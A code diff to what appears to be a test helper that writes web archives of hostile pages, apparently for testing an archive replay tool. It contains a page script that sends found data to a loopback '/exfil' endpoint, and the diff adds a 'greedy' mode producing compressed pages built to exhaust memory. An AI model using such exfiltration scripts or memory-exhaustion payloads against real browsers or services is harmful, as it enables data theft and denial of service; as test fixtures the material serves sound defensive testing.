@@ -1,4 +1,9 @@
-"""Writes an archive of hostile pages: hostile.py FILE.warc PORT, where PORT is that of a live web on loopback."""
+"""Writes an archive of hostile pages:
+
+hostile.py FILE.warc PORT       which send out what they find, to a live web at this port of loopback
+hostile.py FILE.warc greedy N   which want memory, N of them
+"""
+import gzip
 import hashlib
 import sys
 
@@ -22,7 +27,26 @@ EVIL = """<!doctype html><title>evil</title><meta http-equiv=refresh content="1;
   location = "http://127.0.0.1:PORT/exfil?" + encodeURIComponent(found);
 })()</script>"""
 
+BIG = 12 << 20
+GREEDY = [
+    ("text/html", b"<p title='" + b"x" * BIG + b"'>"),
+    ("text/html", b"<img srcset='" + b"a 1x," * (BIG // 5) + b"'>"),
+    ("text/html", b"<base href='http://h.test/" + b"x" * 2000 + b"/'><img srcset='" + b"a 1x," * 50000 + b"'>"),
+    ("text/html", b"<style>" + b"url(a)" * (BIG // 6) + b"</style>"),
+    ("text/html", b"<noscript>" * (BIG // 10)),
+    ("text/html", b"<iframe srcdoc='" + b"&lt;a href=/x>" * (BIG // 14) + b"'>"),
+    ("text/html; charset=utf-16le", b"<\0a\0>\0" * (BIG // 6)),
+    ("text/css", b"url(a)" * (BIG // 6)),
+]
+
 if __name__ == "__main__":
+    if sys.argv[2] == "greedy":
+        coded = [(media, gzip.compress(body, 1)) for media, body in GREEDY]
+        with open(sys.argv[1], "wb") as out:
+            for i in range(int(sys.argv[3])):
+                media, body = coded[i % len(coded)]
+                out.write(capture("http://greedy.test/%d" % i, media, body, b"Content-Encoding: gzip\r\n"))
+        sys.exit()
     with open(sys.argv[1], "wb") as out:
         out.write(capture("http://evil.test/", "text/html", EVIL.replace("PORT", sys.argv[2]).encode()))
         out.write(capture("http://secret.test/", "text/html", b"<title>secret</title>SECRET"))
